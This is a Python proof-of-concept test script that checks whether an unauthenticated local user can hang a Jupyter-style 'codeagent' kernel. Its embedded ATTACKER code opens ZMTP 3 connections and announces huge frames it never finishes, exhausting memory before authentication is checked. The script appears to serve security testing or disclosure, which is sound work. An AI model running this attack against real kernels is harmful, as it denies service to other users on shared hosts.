"""A peer without the kernel's key, as any local user can be (the kernel listens on 127.0.0.1, and /proc/net/tcp names
every listener with its owner's uid), speaks ZMTP 3 to one of the kernel's ports and announces frames it never sends
whole. JeroMQ allocates a frame's announced size as soon as its header arrives, before any signature can be checked.
Prints one JSON line: whether the kernel still answers 1+1 afterwards and is alive.

usage: unauthenticated_peer.py CHANNEL CONNECTIONS FRAME_BYTES [SETPRIV_UID]"""
import json
import os
import socket
import struct
import subprocess
import sys
import time

from jupyter_client.manager import KernelManager

channel, connections, frame_bytes = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
as_uid = sys.argv[4] if len(sys.argv) > 4 else None

ATTACKER = r'''
import socket, struct, sys, time
port, n, size, peer_type = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode()
greeting = b"\xff" + b"\0" * 7 + b"\x01\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\x00" + b"\0" * 31
def prop(name, value):
    return bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
ready = b"\x05READY" + prop(b"Socket-Type", peer_type) + prop(b"Identity", b"")
held = []
for i in range(n):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(greeting)
    s.sendall(b"\x04" + bytes([len(ready)]) + ready)
    # one long frame, the last of its message: 8-byte size, then a few bytes of it, never the rest
    s.sendall(b"\x02" + struct.pack(">Q", size) + b"x" * 16)
    held.append(s)
    time.sleep(0.2)
print("sent", n, flush=True)
time.sleep(30)
'''

results = {"channel": channel, "connections": connections, "frame_bytes": frame_bytes}
km = KernelManager(kernel_name="codeagent")
km.start_kernel()
kc = km.client()
kc.start_channels()
kc.wait_for_ready(timeout=180)


def one_plus_one(timeout):
    try:
        msg_id = kc.execute("1 + 1")
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            reply = kc.get_shell_msg(timeout=max(1, deadline - time.monotonic()))
            if reply["parent_header"].get("msg_id") == msg_id:
                return reply["content"]["status"]
    except Exception as e:  # noqa: BLE001 - any failure is the answer
        return "no reply: " + type(e).__name__
    return "no reply"


results["before"] = one_plus_one(120)
port = km.connection_file and json.load(open(km.connection_file))[channel + "_port"]
peer_type = {"hb": "REQ", "shell": "DEALER", "control": "DEALER", "stdin": "DEALER"}[channel]
cmd = [sys.executable, "-c", ATTACKER, str(port), str(connections), str(frame_bytes), peer_type]
if as_uid is not None:
    cmd = ["/usr/bin/setpriv", "--reuid=" + as_uid, "--regid=" + as_uid, "--clear-groups"] + cmd
attacker = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, cwd="/")
results["attacker_said"] = attacker.stdout.readline().decode().strip()
time.sleep(5)
results["after"] = one_plus_one(60)
results["kernel_alive"] = km.is_alive()
attacker.kill()
attacker.wait()
time.sleep(2)
results["after_peer_left"] = one_plus_one(60) if km.is_alive() else "dead"
results["kernel_alive_after_peer_left"] = km.is_alive()
print(json.dumps(results), flush=True)
# a wedged kernel answers no shutdown_request: end its process (SIGTERM lets it end its sandboxes), then make sure
pid = km.provisioner.process.pid if getattr(km, "provisioner", None) and km.provisioner.process else None
try:
    kc.stop_channels()
    km.shutdown_kernel(now=True)
except Exception:  # noqa: BLE001
    pass
if pid is not None:
    try:
        os.kill(pid, 15)
        for _ in range(100):
            os.kill(pid, 0)
            time.sleep(0.1)
        os.kill(pid, 9)
    except ProcessLookupError:
        pass
